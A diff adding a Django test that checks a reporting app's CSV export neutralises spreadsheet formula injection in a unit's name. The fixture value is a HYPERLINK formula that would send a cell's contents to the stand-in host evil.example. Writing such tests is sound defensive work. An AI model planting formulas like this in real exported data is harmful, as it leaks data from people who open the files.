@@ -128,3 +128,21 @@ def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
     assert outside.labels == []
     own = charts(login("vanphong").get("/thong-ke/", {"period": "2023"}))["dung-han"]
     assert own.labels == [str(vp)]
+
+
+def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
+    import datetime as dt
+
+    from ngoaivu.collection.models import ReportRequest, Submission
+    from ngoaivu.reporting.models import ReportTemplate
+
+    clock(2023, 12, 31)
+    sngv, vp = Unit.objects.get(code="SNgV"), Unit.objects.get(code="VP")
+    Unit.objects.filter(pk=vp.pk).update(short_name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')
+    request = ReportRequest.objects.create(direction="outgoing", subject="Báo cáo hội nhập quốc tế", unit=sngv,
+                                           template=ReportTemplate.objects.get(code="integration"),
+                                           period_code="2023", deadline=dt.date(2023, 11, 20))
+    Submission.objects.create(request=request, unit=vp, state="not_started")
+    text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "0", "0", "1"]
